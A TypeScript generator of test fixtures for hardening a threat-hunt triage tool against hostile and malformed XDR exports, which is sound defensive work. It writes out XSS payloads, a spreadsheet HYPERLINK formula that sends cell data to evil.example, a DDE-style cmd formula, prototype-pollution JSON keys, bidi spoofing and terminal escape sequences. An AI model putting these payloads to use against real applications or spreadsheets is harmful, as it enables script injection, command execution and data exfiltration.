/**
 * Hostile and broken inputs for the hardening tests:
 *   test/fixtures/hostile/  attacker-written text mixed with real hits of the bundled hunt (CSV and NDJSON)
 *   test/fixtures/bad/      damaged or mislabelled files (truncated gzip, ragged CSV, binary data, ...)
 *
 * Usage: npx tsx scripts/gen-hostile.ts [--out <dir>] [--big <dir>]
 *   --out  where `hostile/` and `bad/` go (default: test/fixtures)
 *   --big  also write the large inputs (1 MB values, 10,000 columns, a 2 MB line without newline)
 *          there; they are never committed, the tests build them in memory with the same functions.
 *
 * Deterministic: a seeded PRNG, fixed times, gzip without a timestamp. Committed files stay a few KB.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { gzipSync } from 'fflate';
import { concatBytes } from '../src/ingest/bytes';
import { Rng } from './lib/prng';

/** Every column the bundled hunt reads or projects, in XDR's spelling. */
export const XDR_COLUMNS = [
  '_time',
  'agent_hostname',
  'actor_effective_username',
  'event_type',
  'event_sub_type',
  'agent_os_type',
  'action_process_image_name',
  'action_process_image_path',
  'action_process_image_command_line',
  'event_id',
  'agent_id',
  '_product',
] as const;

export type XdrColumn = (typeof XDR_COLUMNS)[number];
export type XdrRecord = Record<XdrColumn, string>;

/** 2025-06-30 00:00:00 UTC; row n is n seconds later. */
export const BASE_MS = Date.UTC(2025, 5, 30);

/** The part of a command line that makes it a hit of the bundled hunt (under both string readings). */
export const HIT_COMMAND = 'cmd.exe /c net use \\\\h.trycloudflare.com@SSL\\DavWWWRoot';

export function xdrRecord(n: number, eventId: string, hit: boolean, overrides: Partial<XdrRecord> = {}): XdrRecord {
  return {
    _time: String(BASE_MS + n * 1000),
    agent_hostname: `WS-${String(n).padStart(4, '0')}`,
    actor_effective_username: 'CORP\\alice',
    event_type: 'PROCESS',
    event_sub_type: 'PROCESS_START',
    agent_os_type: 'AGENT_OS_WINDOWS',
    action_process_image_name: hit ? 'cmd.exe' : 'notepad.exe',
    action_process_image_path: hit ? 'C:\\Windows\\System32\\cmd.exe' : 'C:\\Windows\\System32\\notepad.exe',
    action_process_image_command_line: hit ? HIT_COMMAND : 'notepad.exe C:\\notes.txt',
    event_id: eventId,
    agent_id: `agent-${n % 7}`,
    _product: 'XDR agent',
    ...overrides,
  };
}

// ---------------------------------------------------------------------------------------------
// Hostile text
// ---------------------------------------------------------------------------------------------

export interface HostileCase {
  id: string;
  what: string;
  /** The attacker-written text, as it must come back out of the engine. */
  text: string;
  /** CSV cannot carry it when false (e.g. a lone surrogate has no UTF-8 encoding). */
  csv: boolean;
}

const ESC = '\u001b';
const BEL = '\u0007';

export const HOSTILE_CASES: readonly HostileCase[] = [
  { id: 'html-img', what: 'HTML with an event handler', text: '<img src=x onerror=alert(1)>', csv: true },
  { id: 'html-script', what: 'a script element', text: '<script>alert(document.domain)</script>', csv: true },
  { id: 'js-url', what: 'a javascript: URL', text: 'javascript:alert(1)//https://x.trycloudflare.com', csv: true },
  { id: 'attr-break', what: 'attribute break-out', text: '"><svg onload=alert(1)>\'', csv: true },
  { id: 'entities', what: 'HTML entities that must not be decoded', text: '&lt;b&gt;&amp;#x3C;&quot; &#0;', csv: true },
  { id: 'bidi-rlo', what: 'right-to-left override (file name spoofing)', text: 'invoice\u202Efdp.exe', csv: true },
  { id: 'bidi-all', what: 'every bidi embedding, override, mark and isolate', text: 'a\u202Ab\u202Bc\u202Cd\u202De\u202Ef\u200Eg\u200Fh\u061Ci\u2066j\u2067k\u2068l\u2069m', csv: true },
  { id: 'zero-width', what: 'zero-width characters and a BOM mid-text', text: 'po\u200Bwer\u200Cshe\u200Dll\uFEFF.exe \u2060x', csv: true },
  { id: 'ansi-color', what: 'ANSI colour and screen-clearing escapes', text: `${ESC}[31mRED${ESC}[0m ${ESC}[2J${ESC}[H`, csv: true },
  { id: 'ansi-osc', what: 'an OSC terminal title sequence ended by BEL', text: `${ESC}]0;pwned${BEL}${ESC}]8;;https://evil.example${ESC}\\link${ESC}]8;;${ESC}\\`, csv: true },
  { id: 'nul', what: 'NUL characters', text: 'a\u0000b\u0000\u0000c', csv: true },
  { id: 'c0', what: 'other C0 controls (backspace, vertical tab, form feed, DEL)', text: 'ab\bc\u000bd\fe\u007ff', csv: true },
  { id: 'c1', what: 'C1 controls (CSI U+009B, NEL U+0085, OSC U+009D)', text: '\u009b31m\u0085\u009d0;t\u009c', csv: true },
  { id: 'line-separators', what: 'Unicode line and paragraph separators', text: 'one\u2028two\u2029three', csv: true },
  { id: 'newlines', what: 'CR, LF and CRLF inside a value', text: 'line1\nline2\r\nline3\rline4', csv: true },
  { id: 'formula', what: 'spreadsheet formulas', text: '=HYPERLINK("https://evil.example/?"&A1,"click")', csv: true },
  { id: 'formula-prefixes', what: 'other formula prefixes', text: '+cmd|\' /C calc\'!A0 -2+3 @SUM(1)', csv: true },
  { id: 'case-fold', what: 'characters whose lower case is longer (İ)', text: 'İİİ ǅ ß ẞ', csv: true },
  { id: 'astral', what: 'astral characters (surrogate pairs) before the match', text: '😀𝕏🏴‍☠️', csv: true },
  { id: 'replacement', what: 'a genuine U+FFFD', text: 'bad\uFFFDbyte', csv: true },
  { id: 'quotes', what: 'quote and delimiter soup', text: '"",,";;"\t\t\'\'``', csv: true },
  { id: 'lone-high', what: 'a lone high surrogate (\\ud800 in JSON)', text: 'x\uD800y', csv: false },
  { id: 'lone-low', what: 'a lone low surrogate (\\udfff in JSON)', text: '\uDFFFz', csv: false },
  { id: 'reversed-pair', what: 'a low then a high surrogate', text: '\uDC00\uD800', csv: false },
];

/** One hit and one near miss (wrong image) per hostile case, plus plain hits around them. */
export interface HostileRow {
  record: XdrRecord;
  hit: boolean;
  caseId: string | null;
}

export function hostileRows(format: 'csv' | 'ndjson'): HostileRow[] {
  const rows: HostileRow[] = [];
  let n = 0;
  const plain = (): void => {
    n++;
    rows.push({ record: xdrRecord(n, `plain-${n}`, true), hit: true, caseId: null });
  };
  plain();
  for (const c of HOSTILE_CASES) {
    if (format === 'csv' && !c.csv) continue;
    n++;
    rows.push({
      record: xdrRecord(n, `hit-${c.id}`, true, {
        // The hostile text before and after the match, so the spans must account for it.
        action_process_image_command_line: `${c.text} ${HIT_COMMAND} ${c.text}`,
        agent_hostname: `WS-${c.text}`,
        actor_effective_username: c.text,
      }),
      hit: true,
      caseId: c.id,
    });
    n++;
    rows.push({
      record: xdrRecord(n, `miss-${c.id}`, false, { action_process_image_command_line: `${c.text} net use x.trycloudflare.com` }),
      hit: false,
      caseId: c.id,
    });
  }
  plain();
  return rows;
}

/** RFC 4180: every cell quoted (so no formula neutralisation or trimming changes a byte). */
export function csvCell(text: string): string {
  return `"${text.replace(/"/g, '""')}"`;
}

export function toCsv(columns: readonly string[], records: readonly Record<string, string>[], newline = '\r\n'): string {
  const lines = [columns.join(','), ...records.map((r) => columns.map((c) => csvCell(r[c] ?? '')).join(','))];
  return lines.join(newline) + newline;
}

/** JSON.stringify escapes lone surrogates as \udXXX (well-formed JSON.stringify). */
export function toNdjson(records: readonly object[]): string {
  return records.map((r) => JSON.stringify(r)).join('\n') + '\n';
}

/** `__proto__`, `constructor`, `prototype` as CSV headers and JSON keys, next to hits. */
export const PROTO_COLUMNS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', ...XDR_COLUMNS] as const;

export function protoCsv(): string {
  const rows = [1, 2, 3].map((n) => {
    const record = xdrRecord(n, `proto-csv-${n}`, n !== 2);
    const hostile = [`{"polluted":"yes-${n}"}`, 'polluted', 'polluted', 'polluted', 'polluted'];
    return [...hostile, ...XDR_COLUMNS.map((c) => record[c])].map(csvCell).join(',');
  });
  return [PROTO_COLUMNS.join(','), ...rows].join('\n') + '\n';
}

/** Written by hand: JSON.stringify of an object literal cannot carry an own `__proto__` key. */
export function protoNdjson(): string {
  const lines: string[] = [];
  for (let n = 1; n <= 3; n++) {
    const base = JSON.stringify(xdrRecord(n, `proto-json-${n}`, n !== 2)).slice(1, -1);
    lines.push(
      `{"__proto__":{"polluted":"yes","isAdmin":true},"constructor":{"prototype":{"polluted":"yes"}},"prototype":{"polluted":"yes"},` +
        `"nested":{"__proto__":{"polluted":"yes"},"a":[{"__proto__":{"polluted":"yes"}}]},${base}}`,
    );
  }
  // A record whose event fields sit only under __proto__: they must not reach the row by inheritance.
  lines.push(`{"__proto__":${JSON.stringify(xdrRecord(4, 'proto-json-4', true))},"event_id":"proto-json-inherit"}`);
  return lines.join('\n') + '\n';
}

/** Values nested `depth` levels deep (arrays and objects alternating). */
export function deepJson(depth: number): string {
  return '{"a":['.repeat(Math.floor(depth / 2)) + '1' + ']}'.repeat(Math.floor(depth / 2));
}

export function deepNdjson(depth: number): string {
  const lines = [1, 2, 3].map((n) => JSON.stringify({ ...xdrRecord(n, `deep-${n}`, true) }).slice(0, -1) + `,"extra":${deepJson(depth)}}`);
  return lines.join('\n') + '\n';
}

// ---------------------------------------------------------------------------------------------
// Large inputs (built at test time, or written with --big)
// ---------------------------------------------------------------------------------------------

/** A hit whose command line is `megabytes` MB long, between plain hits. */
export function bigValueRecords(megabytes = 1): XdrRecord[] {
  const filler = 'A'.repeat(megabytes * 1024 * 1024);
  return [
    xdrRecord(1, 'big-before', true),
    xdrRecord(2, 'big-value', true, { action_process_image_command_line: `${filler} ${HIT_COMMAND} ${filler}` }),
    xdrRecord(3, 'big-host', true, { agent_hostname: filler }),
    xdrRecord(4, 'big-after', true),
  ];
}

export function bigValueCsv(megabytes = 1): string {
  return toCsv(XDR_COLUMNS, bigValueRecords(megabytes));
}

export function bigValueNdjson(megabytes = 1): string {
  return toNdjson(bigValueRecords(megabytes));
}

/** The XDR columns plus filler columns up to `columns`, `rows` rows; every 100th row is a hit. */
export function wideCsv(columns = 10_000, rows = 1_000): string {
  const extra = Array.from({ length: columns - XDR_COLUMNS.length }, (_, i) => `extra_${i}`);
  const header = [...XDR_COLUMNS, ...extra].join(',');
  const fillerCells = extra.map((_, i) => String(i % 10)).join(',');
  const lines = [header];
  for (let n = 1; n <= rows; n++) {
    const record = xdrRecord(n, `wide-${n}`, n % 100 === 0);
    lines.push(`${XDR_COLUMNS.map((c) => csvCell(record[c])).join(',')},${fillerCells}`);
  }
  return lines.join('\n') + '\n';
}

/** One record whose command line is `megabytes` MB long and has no newline at all, not even at the end. */
export function longLineCsv(megabytes = 2): string {
  const record = xdrRecord(1, 'long-line', true, { action_process_image_command_line: `${HIT_COMMAND} ${'x'.repeat(megabytes * 1024 * 1024)}` });
  return `${XDR_COLUMNS.join(',')}\n${XDR_COLUMNS.map((c) => record[c]).join(',')}`;
}

export function longLineNdjson(megabytes = 2): string {
  const record = xdrRecord(1, 'long-line', true, { action_process_image_command_line: `${HIT_COMMAND} ${'x'.repeat(megabytes * 1024 * 1024)}` });
  return JSON.stringify(record);
}

// ---------------------------------------------------------------------------------------------
// Bad files
// ---------------------------------------------------------------------------------------------

const encoder = new TextEncoder();


function utf16(text: string, bigEndian: boolean): Uint8Array {
  const out = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    out[2 * i + (bigEndian ? 1 : 0)] = code & 0xff;
    out[2 * i + (bigEndian ? 0 : 1)] = code >> 8;
  }
  return out;
}

/** Ten records, hits at 2, 5 and 9 (1-based data rows). */
export function goodRecords(prefix: string, count = 10): XdrRecord[] {
  return Array.from({ length: count }, (_, i) => xdrRecord(i + 1, `${prefix}-${i + 1}`, [2, 5, 9].includes(i + 1)));
}

export interface BadFile {
  name: string;
  what: string;
  bytes: Uint8Array;
}

export function badFiles(): BadFile[] {
  const rng = new Rng('hunt-triage-bad-files-v1');
  const files: BadFile[] = [];
  const add = (name: string, what: string, bytes: Uint8Array | string): void => {
    files.push({ name, what, bytes: typeof bytes === 'string' ? encoder.encode(bytes) : bytes });
  };
  const csv = (prefix: string, count = 10): string => toCsv(XDR_COLUMNS, goodRecords(prefix, count), '\n');

  // gzip of 200 rows, cut in the middle of the deflate stream.
  const gz = gzipSync(encoder.encode(csv('gz', 200)), { mtime: 0 });
  add('truncated.csv.gz', 'gzip stream cut in half', gz.subarray(0, Math.floor(gz.length / 2)));
  const corrupt = gz.slice();
  for (let i = gz.length >> 1; i < (gz.length >> 1) + 16; i++) corrupt[i] = 0xff;
  add('corrupt.csv.gz', 'gzip with garbage in the deflate stream', corrupt);
  add('empty.csv.gz', 'a 0-byte file named .gz', new Uint8Array(0));
  add('empty-stream.csv.gz', 'a valid gzip stream holding 0 bytes', gzipSync(new Uint8Array(0), { mtime: 0 }));

  const nd = goodRecords('nd', 6).map((r) => JSON.stringify(r));
  add('bad-line.ndjson', 'invalid JSON on line 4 of 7', [...nd.slice(0, 3), '{"event_id":"broken", "event_type": PROCESS}', ...nd.slice(3)].join('\n') + '\n');
  add('not-objects.ndjson', 'an array, a number and a string among objects', [nd[0], '[1,2]', '42', '"text"', nd[1]].join('\n') + '\n');

  const lines = csv('rag').trimEnd().split('\n');
  lines[2] = lines[2].split(',').slice(0, 5).join(','); // data row 2 (a hit) loses 7 cells
  lines[6] = `${lines[6]},"one","two"`; // data row 6 gains 2 non-empty cells
  add('ragged.csv', 'rows with too few and too many cells', lines.join('\n') + '\n');

  // Unquoted cells, so the stray quote finds no partner: it stays open to the end of the file.
  const open = [XDR_COLUMNS.join(','), ...goodRecords('quote').map((r) => XDR_COLUMNS.map((c) => r[c]).join(','))];
  open[3] = open[3].replace('WS-0003', '"WS-0003'); // data row 3: an opening quote that never closes
  add('unterminated-quote.csv', 'a quote that opens on line 4 and never closes', open.join('\n') + '\n');

  add('random.bin', 'random bytes', Uint8Array.from({ length: 2048 }, () => rng.int(256)));
  const pngHeader = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 1, 0, 0, 0, 1, 0, 8, 6, 0, 0, 0]);
  add('screenshot.png', 'a PNG image', concatBytes([pngHeader, Uint8Array.from({ length: 512 }, () => rng.int(256))]));
  add('export.csv.png', 'a PNG renamed to look like a CSV export', concatBytes([pngHeader, encoder.encode(csv('png', 2))]));
  const evtxHeader = concatBytes([encoder.encode('ElfFile\0'), new Uint8Array(32), Uint8Array.from([0x80, 0, 0, 0, 1, 0, 3, 0]), new Uint8Array(88)]);
  add('Security.evtx', 'a binary EVTX log', concatBytes([evtxHeader, encoder.encode('ElfChnk\0'), Uint8Array.from({ length: 256 }, () => rng.int(256))]));

  add('empty.csv', 'a 0-byte file', new Uint8Array(0));
  add('blank.csv', 'only blank lines', '\n\r\n  \n');
  add('header-only.csv', 'a header row and nothing else', `${XDR_COLUMNS.join(',')}\n`);

  const latin1Text = csv('latin', 4).replace('CORP\\alice', 'CORP\\Ren__');
  const latin1 = encoder.encode(latin1Text);
  // Two Latin-1 "é" bytes (0xE9) in the first user name: invalid UTF-8 on data row 1 (line 2).
  const at = latin1Text.indexOf('Ren__') + 3;
  latin1[at] = 0xe9;
  latin1[at + 1] = 0xe9;
  add('mixed-encoding.csv', 'UTF-8 with two Latin-1 bytes', latin1);

  add('really-json.csv', 'a .csv that holds a JSON array', JSON.stringify(goodRecords('json', 4), null, 1));
  const arrayText = JSON.stringify(goodRecords('arr', 6), null, 1);
  add('truncated-array.json', 'a JSON array cut in the middle of its 5th element', arrayText.slice(0, arrayText.indexOf('"arr-5"') + 3));
  add(
    'stream-id.json',
    'an XQL API response that only holds a stream_id',
    JSON.stringify({ reply: { status: 'SUCCESS', number_of_results: 2_000_000, query_cost: {}, remaining_quota: 1, results: { stream_id: 'a1b2c3' } } }),
  );
  add('xql-api-error.json', 'an XQL API error reply', JSON.stringify({ reply: { err_code: 500, err_msg: 'An error occurred', err_extra: 'quota' } }));

  add('utf16le-no-bom.csv', 'UTF-16LE without a BOM', utf16(csv('u16le', 4), false));
  add('utf16be-no-bom.csv', 'UTF-16BE without a BOM', utf16(csv('u16be', 4), true));
  add('cr-only.csv', 'classic Mac line endings (CR only)', csv('cr', 4).replace(/\n/g, '\r'));
  add('unknown-columns.csv', 'a CSV that no profile recognises', 'alpha,beta,gamma\n1,2,3\n4,5,6\n');
  return files;
}

// ---------------------------------------------------------------------------------------------
// Writing
// ---------------------------------------------------------------------------------------------

export function hostileFiles(): { name: string; text: string }[] {
  return [
    { name: 'hostile.csv', text: toCsv(XDR_COLUMNS, hostileRows('csv').map((r) => r.record)) },
    { name: 'hostile.ndjson', text: toNdjson(hostileRows('ndjson').map((r) => r.record)) },
    { name: 'proto.csv', text: protoCsv() },
    { name: 'proto.ndjson', text: protoNdjson() },
    { name: 'deep.ndjson', text: deepNdjson(400) },
  ];
}

export function bigFiles(): { name: string; text: string }[] {
  return [
    { name: 'big-value.csv', text: bigValueCsv() },
    { name: 'big-value.ndjson', text: bigValueNdjson() },
    { name: 'wide.csv', text: wideCsv() },
    { name: 'long-line.csv', text: longLineCsv() },
    { name: 'long-line.ndjson', text: longLineNdjson() },
    { name: 'very-deep.ndjson', text: deepNdjson(100_000) },
  ];
}

function writeIfChanged(path: string, bytes: Uint8Array): boolean {
  if (existsSync(path)) {
    const old = new Uint8Array(readFileSync(path));
    if (old.length === bytes.length && old.every((b, i) => b === bytes[i])) return false;
  }
  writeFileSync(path, bytes);
  return true;
}

export function writeFixtures(outDir: string, bigDir: string | null): string[] {
  const written: string[] = [];
  const hostileDir = join(outDir, 'hostile');
  const badDir = join(outDir, 'bad');
  mkdirSync(hostileDir, { recursive: true });
  mkdirSync(badDir, { recursive: true });
  for (const file of hostileFiles()) if (writeIfChanged(join(hostileDir, file.name), encoder.encode(file.text))) written.push(join(hostileDir, file.name));
  for (const file of badFiles()) if (writeIfChanged(join(badDir, file.name), file.bytes)) written.push(join(badDir, file.name));
  if (bigDir) {
    mkdirSync(bigDir, { recursive: true });
    for (const file of bigFiles()) if (writeIfChanged(join(bigDir, file.name), encoder.encode(file.text))) written.push(join(bigDir, file.name));
  }
  return written;
}

export const FIXTURE_DIR = resolve(fileURLToPath(new URL('../test/fixtures', import.meta.url)));

function argValue(argv: readonly string[], name: string): string | null {
  const at = argv.indexOf(name);
  return at === -1 ? null : (argv[at + 1] ?? null);
}

if (process.argv[1] && import.meta.url === pathToFileURL(resolve(process.argv[1])).href) {
  const argv = process.argv.slice(2);
  const out = resolve(argValue(argv, '--out') ?? FIXTURE_DIR);
  const big = argValue(argv, '--big');
  const written = writeFixtures(out, big === null ? null : resolve(big));
  process.stdout.write(written.length === 0 ? 'fixtures up to date\n' : `${written.map((p) => `wrote ${p}`).join('\n')}\n`);
}
